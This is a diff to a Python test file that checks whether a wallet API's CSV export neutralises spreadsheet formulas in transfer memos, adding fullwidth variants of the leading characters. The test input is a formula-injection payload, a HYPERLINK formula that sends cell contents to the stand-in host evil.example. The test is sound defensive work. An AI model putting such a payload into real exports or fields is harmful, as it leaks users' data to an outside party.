@@ -133,7 +133,7 @@ def test_the_format_is_named_in_the_address_and_not_by_accept(past: Past, client
     assert len(rows_of(client.get(URL, {"format": "csv"}, headers={"Accept": accept}))) == 5
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+@pytest.mark.parametrize("start", [*"=+-@", *"＝＋－＠"])
 def test_what_somebody_wrote_is_no_formula_in_a_spreadsheet(past: Past, client: APIClient, start: str) -> None:
     memo = f'{start}HYPERLINK("http://evil.example?x="&A1,"look, here")'
     body = {"type": "transfer", "wallet_id": past.bitcoin.pk, "asset": "BTC", "amount": "0.01", "memo": memo}
